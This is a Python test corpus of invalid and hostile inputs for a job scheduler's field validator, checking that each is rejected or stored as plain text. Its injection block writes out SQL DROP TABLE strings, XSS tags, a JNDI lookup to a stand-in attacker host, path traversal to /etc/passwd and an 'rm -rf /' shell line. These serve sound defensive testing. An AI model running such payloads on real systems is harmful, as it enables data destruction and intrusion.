"""A corpus of hostile and odd inputs, one named case each, per resource.

Every case states what must happen to it:

- ``rejected_at="<field>"``: ``check()`` refuses it, naming that field (and a rule), before
  anything is sent to the server;
- ``rejected_at=None``: ``check()`` accepts it, and the created object reads back exactly
  as checked.

Cases are *changes* over the corpus' valid ``base`` declaration (``MISSING`` removes a key).
tests/integration/test_bad_input_corpus.py runs them against the real server.

Extension point: DAG and workflow cases go into their own ``Corpus`` (for example
``CORPORA["workflow"] = Corpus("workflow", WORKFLOW_BASE, WORKFLOW_CASES)``) in a module of
their own, registered here, with a test module that knows how to create and read that
resource. The ``BadInput`` shape and the two outcomes stay the same.
"""

from __future__ import annotations

import calendar
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

MISSING = object()
"""A change value meaning: leave the key out of the declaration."""

INT32 = 2**31 - 1
INT64 = 2**63 - 1
_NOW = int(time.time() * 1000)
_YEAR = time.gmtime().tm_year
_DAY = 86_400_000
_JAN1_NEXT = int(calendar.timegm((_YEAR + 1, 1, 1, 0, 0, 0))) * 1000
_IN_4_DAYS = time.gmtime(_NOW / 1000 + 4 * 86_400).tm_wday + 1  # Monday = 1: no zone is there yet


@dataclass(frozen=True)
class BadInput:
    """One corpus case: a name, the changes over the base, and the field check() must name."""

    name: str
    changes: Mapping[str, Any]
    rejected_at: str | None = None


@dataclass(frozen=True)
class Corpus:
    """The cases of one resource type, applied over a valid base declaration."""

    resource: str
    base: Mapping[str, Any]
    cases: tuple[BadInput, ...] = field(default=())

    def declaration(self, case: BadInput) -> dict[str, Any]:
        merged = {**self.base, **case.changes}
        return {k: v for k, v in merged.items() if v is not MISSING}

    def __iter__(self) -> Iterator[BadInput]:
        return iter(self.cases)


def _reject(name: str, field_name: str, **changes: Any) -> BadInput:
    return BadInput(name, changes, field_name)


def _accept(name: str, **changes: Any) -> BadInput:
    return BadInput(name, changes, None)


JOB_BASE: Mapping[str, Any] = {
    "job_name": "corpus-job",
    "time_expression_type": "CRON",
    "time_expression": "0 0 3 * * ?",
    "processor_info": "demo.Processor",
}

_INJECTIONS = {
    "sql-drop": "'; DROP TABLE job_info; --",
    "sql-tautology": "1' OR '1'='1",
    "sql-comment": "name/**/UNION/**/SELECT/**/password/**/FROM/**/app_info",
    "json-break-out": '", "appId": 1, "jobName": "pwned',
    "json-object": '{"jobName": "x", "appId": 0}',
    "html-script": "<script>alert(1)</script>",
    "html-img": '<img src=x onerror="alert(1)">',
    "jndi": "${jndi:ldap://attacker.invalid/a}",
    "template": "{{7*7}} #{7*7} ${7*7}",
    "format-string": "%s%s%n%x",
    "path-traversal": "../../../../etc/passwd",
    "shell": "$(rm -rf /); `id`",
    "crlf": "a\r\nX-Injected: 1",
    "like-wildcards": "%_%\\",
    "escaped-unicode-literal": "\\u0000\\n",
}
_INJECTION_FIELDS = (
    "job_name",
    "job_description",
    "job_params",
    "tag",
    "extra",
    "processor_info",
    "designated_workers",
)

JOB_CASES: tuple[BadInput, ...] = (
    # -- wrong types -------------------------------------------------------------------------
    _reject("type-name-int", "job_name", job_name=42),
    _reject("type-name-list", "job_name", job_name=["a"]),
    _reject("type-name-dict", "job_name", job_name={"a": 1}),
    _reject("type-name-none", "job_name", job_name=None),
    _reject("type-name-missing", "job_name", job_name=MISSING),
    _reject("type-processor-int", "processor_info", processor_info=42),
    _reject("type-params-dict", "job_params", job_params={"a": 1}),
    _reject("type-concurrency-text", "concurrency", concurrency="abc"),
    _reject("type-concurrency-list", "concurrency", concurrency=[5]),
    _reject("type-concurrency-none", "concurrency", concurrency=None),
    _reject("type-concurrency-fraction", "concurrency", concurrency=2.5),
    _reject("type-enabled-text", "enabled", enabled="maybe"),
    _reject("type-enabled-none", "enabled", enabled=None),
    _reject("type-notify-string", "notify_user_ids", notify_user_ids="1,2"),
    _reject("type-notify-dict", "notify_user_ids", notify_user_ids={"a": 1}),
    _reject("type-notify-item-text", "notify_user_ids.0", notify_user_ids=["bob"]),
    _reject("type-lifecycle-text", "lifecycle", lifecycle="tomorrow"),
    _reject("type-lifecycle-start-text", "lifecycle.start", lifecycle={"start": "soon"}),
    _reject("type-alarm-text", "alarm_config", alarm_config="on"),
    _reject("type-log-config-text", "log_config", log_config="INFO"),
    _reject("type-expression-list", "time_expression", time_expression=["0", "0"]),
    _reject("type-cpu-text", "min_cpu_cores", min_cpu_cores="lots"),
    _reject("type-tag-int", "tag", tag=1),
    _reject("type-extra-list", "extra", extra=[]),
    _reject("type-unknown-property", "jobname", jobname="typo"),
    _reject("type-camel-case-property", "jobName", jobName="camel"),
    _reject("type-id-property", "id", id=5),
    _reject("type-adopt-id-text", "adopt_id", adopt_id="abc"),
    _reject("type-adopt-id-negative", "adopt_id", adopt_id=-1),
    _reject("type-concurrency-numeric-string", "concurrency", concurrency="7"),
    _reject("type-enabled-text-false", "enabled", enabled="false"),
    _reject("type-enabled-number", "enabled", enabled=1),
    _reject("type-max-instances-bool", "max_instance_num", max_instance_num=True),
    _reject("type-expression-bool", "time_expression", time_expression=True),
    _accept("type-expression-int-fixed", time_expression_type="FIXED_RATE", time_expression=5000),
    # -- numbers out of range ----------------------------------------------------------------
    _reject("range-concurrency-0", "concurrency", concurrency=0),
    _reject("range-concurrency-negative", "concurrency", concurrency=-1),
    _reject("range-concurrency-int32-plus-1", "concurrency", concurrency=INT32 + 1),
    _reject("range-concurrency-1e20", "concurrency", concurrency=1e20),
    _reject("range-max-instances-negative", "max_instance_num", max_instance_num=-1),
    _reject("range-time-limit-int64-plus-1", "instance_time_limit", instance_time_limit=INT64 + 1),
    _reject("range-retries-negative", "instance_retry_num", instance_retry_num=-1),
    _reject("range-task-retries-int32-plus-1", "task_retry_num", task_retry_num=INT32 + 1),
    _reject("range-cpu-negative", "min_cpu_cores", min_cpu_cores=-0.1),
    _reject("range-cpu-inf", "min_cpu_cores", min_cpu_cores=float("inf")),
    _reject("range-memory-nan", "min_memory_space", min_memory_space=float("nan")),
    _reject("range-workers-negative", "max_worker_count", max_worker_count=-1),
    _reject("range-notify-negative", "notify_user_ids.0", notify_user_ids=[-1]),
    _reject("range-notify-int64-plus-1", "notify_user_ids.0", notify_user_ids=[INT64 + 1]),
    _reject(
        "range-alarm-negative",
        "alarm_config.alert_threshold",
        alarm_config={"alert_threshold": -1, "statistic_window_len": 1, "silence_window_len": 1},
    ),
    _reject("range-lifecycle-start-negative", "lifecycle.start", lifecycle={"start": -1}),
    _reject("range-lifecycle-end-past", "lifecycle", lifecycle={"end": _NOW - 60_000}),
    _reject(
        "range-fixed-rate-0",
        "time_expression",
        time_expression_type="FIXED_RATE",
        time_expression="0",
    ),  # fmt: skip
    _reject(
        "range-fixed-delay-120001",
        "time_expression",
        time_expression_type="FIXED_DELAY",
        time_expression="120001",
    ),  # fmt: skip
    _accept("range-concurrency-int32", concurrency=INT32),
    _accept("range-time-limit-int64", instance_time_limit=INT64),
    _accept("range-notify-int64", notify_user_ids=[INT64]),
    _accept("range-memory-huge", min_memory_space=1e300),
    _accept("range-cpu-tiny", min_cpu_cores=5e-324),
    _accept("range-lifecycle-end-int64", lifecycle={"end": INT64}),
    # -- unicode -----------------------------------------------------------------------------
    _accept("unicode-emoji-name", job_name="\U0001f680 deploy \U0001f9ea"),
    _accept("unicode-emoji-127", job_name="\U0001f600" * 127),
    _reject("unicode-emoji-128", "job_name", job_name="\U0001f600" * 128),
    _accept("unicode-rtl-name", job_name="\u05de\u05e9\u05d9\u05de\u05d4 \u0645\u0647\u0645\u0629"),
    _accept("unicode-rtl-override", job_description="abc\u202edcba\u202c"),
    _accept("unicode-combining", tag="e\u0301\u0301\u0301"),
    _accept("unicode-zero-width", extra="a\u200bb\u200dc\ufeff"),
    _accept("unicode-cjk-255", job_description="\u4e2d" * 255),
    _accept("unicode-mixed-params", job_params='{"名前": "値", "emoji": "\U0001f389", "ar": "ق"}'),
    _accept("unicode-line-separators", job_params="a\u2028b\u2029c"),
    _accept("unicode-escape-sequence", job_description="\x1b[31mred\x1b[0m"),
    # NUL: H2 stores it, PostgreSQL refuses it in every text column (test_database_postgres.py)
    _reject("unicode-nul-in-name", "job_name", job_name="before\x00after"),
    _reject("unicode-nul-in-params", "job_params", job_params="\x00" * 10),
    _reject("unicode-nul-in-description", "job_description", job_description="x\x00y"),
    _reject("unicode-lone-surrogate", "job_name", job_name="a\ud800b"),
    _reject("unicode-lone-surrogate-params", "job_params", job_params="\udfff"),
    _reject(
        "unicode-logger-line-separators",
        "log_config.logger_name",
        log_config={"logger_name": "\u2028" * 40},
    ),
    _accept("unicode-logger-name", log_config={"type": "LOCAL", "logger_name": "журнал.задач"}),
    # -- very long strings -------------------------------------------------------------------
    _accept("long-name-255", job_name="n" * 255),
    _reject("long-name-256", "job_name", job_name="n" * 256),
    _reject("long-name-10k", "job_name", job_name="n" * 10_000),
    _reject("long-description-256", "job_description", job_description="d" * 256),
    _accept("long-params-10k", job_params="p" * 10_000),
    _accept("long-params-200k", job_params='{"blob": "' + "b" * 200_000 + '"}'),
    _reject("long-tag-256", "tag", tag="t" * 256),
    _accept("long-extra-255", extra="e" * 255),
    _reject("long-workers-256", "designated_workers", designated_workers="w" * 256),
    _reject("long-processor-256", "processor_info", processor_info="p" * 256),
    _reject("long-logger-239", "log_config.logger_name", log_config={"logger_name": "l" * 239}),
    _reject(
        "long-dispatch-config-256",
        "dispatch_strategy_config",
        dispatch_strategy="SPECIFY",
        dispatch_strategy_config="c" * 256,
    ),
    _reject("long-notify-ids", "notify_user_ids", notify_user_ids=list(range(10**9, 10**9 + 30))),
    _accept("long-whitespace-name", job_name=" " * 255),
    # -- injection lookalikes (stored as plain text) -----------------------------------------
    *(
        _accept(f"inject-{kind}-{field_name}", **{field_name: text})
        for index, (kind, text) in enumerate(_INJECTIONS.items())
        for field_name in (_INJECTION_FIELDS[index % len(_INJECTION_FIELDS)],)
    ),
    _accept("inject-sql-logger", log_config={"logger_name": "x'); DELETE FROM job_info; --"}),
    _accept("inject-json-params", job_params='{"__proto__": {"admin": true}}'),
    _accept(
        "inject-dispatch-config",
        dispatch_strategy="SPECIFY",
        dispatch_strategy_config="tagIn:' OR 1=1 --",
    ),  # fmt: skip
    # -- invalid crons -----------------------------------------------------------------------
    _reject("cron-5-fields", "time_expression", time_expression="*/5 * * * *"),
    _reject("cron-8-fields", "time_expression", time_expression="0 0 0 * * ? 2030 9"),
    _reject("cron-macro", "time_expression", time_expression="@daily"),
    _reject("cron-empty", "time_expression", time_expression=""),
    _reject("cron-blank", "time_expression", time_expression="   "),
    _reject("cron-seconds-60", "time_expression", time_expression="60 * * * * ?"),
    _reject("cron-dow-8", "time_expression", time_expression="0 0 0 ? * 8"),
    _reject("cron-both-question", "time_expression", time_expression="0 0 0 ? * ?"),
    _reject("cron-feb-30", "time_expression", time_expression="0 0 0 30 2 ?"),
    _reject("cron-L-31", "time_expression", time_expression="0 0 0 L-31 * ?"),
    _reject("cron-double-comma", "time_expression", time_expression="0 0 0 1,,2 * ?"),
    _reject("cron-year-1969", "time_expression", time_expression="0 0 0 * * ? 1969"),
    _reject("cron-year-over", "time_expression", time_expression=f"0 0 0 * * ? {_YEAR - 2}"),
    _reject("cron-backwards-hours", "time_expression", time_expression="0 0 22-2 * * ?"),
    _reject("cron-step-too-big", "time_expression", time_expression="0/61 * * * * ?"),
    _reject("cron-sql", "time_expression", time_expression="0 0 0 * * ?'; DROP TABLE x; --"),
    _accept("cron-lowercase-names", time_expression="0 0 12 ? jan,jul mon-fri"),
    _accept("cron-padded", time_expression="  0   0 3 * * ?  "),
    _accept("cron-L-W-hash", time_expression="0 0 0 ? * 6#3"),
    # -- lifecycle windows with no fire time in any time zone (issue 14) ---------------------
    _reject(
        "window-start-equals-end",
        "time_expression",
        lifecycle={"start": _NOW + _DAY + 5, "end": _NOW + _DAY + 5},
    ),
    _reject(
        "window-end-before-first-fire",
        "time_expression",
        time_expression="0 0 0 1 1 ?",
        lifecycle={"start": _JAN1_NEXT + 2 * _DAY, "end": _JAN1_NEXT + 12 * _DAY},
    ),
    _reject(
        "window-daily-day-not-before-end",
        "time_expression",
        time_expression_type="DAILY_TIME_INTERVAL",
        time_expression=(
            '{"interval": 10, "startTimeOfDay": "00:00:00", "endTimeOfDay": "23:59:59", '
            f'"daysOfWeek": [{_IN_4_DAYS}]}}'
        ),
        lifecycle={"end": _NOW + _DAY},
    ),
    # -- daily time intervals and enums ------------------------------------------------------
    _reject(
        "daily-empty-object",
        "time_expression",
        time_expression_type="DAILY_TIME_INTERVAL",
        time_expression="{}",
    ),  # fmt: skip
    _reject(
        "daily-not-json",
        "time_expression",
        time_expression_type="DAILY_TIME_INTERVAL",
        time_expression="<xml/>",
    ),  # fmt: skip
    _reject(
        "daily-end-before-start",
        "time_expression",
        time_expression_type="DAILY_TIME_INTERVAL",
        time_expression='{"interval": 1, "startTimeOfDay": "10:00:00", '
        '"endTimeOfDay": "09:00:00"}',
    ),  # fmt: skip
    _reject("enum-unknown-type", "time_expression_type", time_expression_type="HOURLY"),
    _reject("enum-unknown-execute", "execute_type", execute_type="PARALLEL"),
    _reject("enum-ordinal-execute", "execute_type", execute_type=1),
    _reject("enum-unknown-log-level", "log_config.level", log_config={"level": "TRACE"}),
    _reject("enum-specify-without-config", "dispatch_strategy_config", dispatch_strategy="SPECIFY"),
    _accept(
        "enum-lowercase-everything",
        time_expression_type=" cron ",
        execute_type="map_reduce",
        processor_type="shell",
        dispatch_strategy="random",
        log_config={"type": "stdout", "level": "warn"},
        advanced_runtime_config={"task_tracker_behavior": "paddling"},
    ),  # fmt: skip
)

CORPORA: dict[str, Corpus] = {"job": Corpus("job", JOB_BASE, JOB_CASES)}
"""Every corpus by resource type; see the module docstring to add one."""
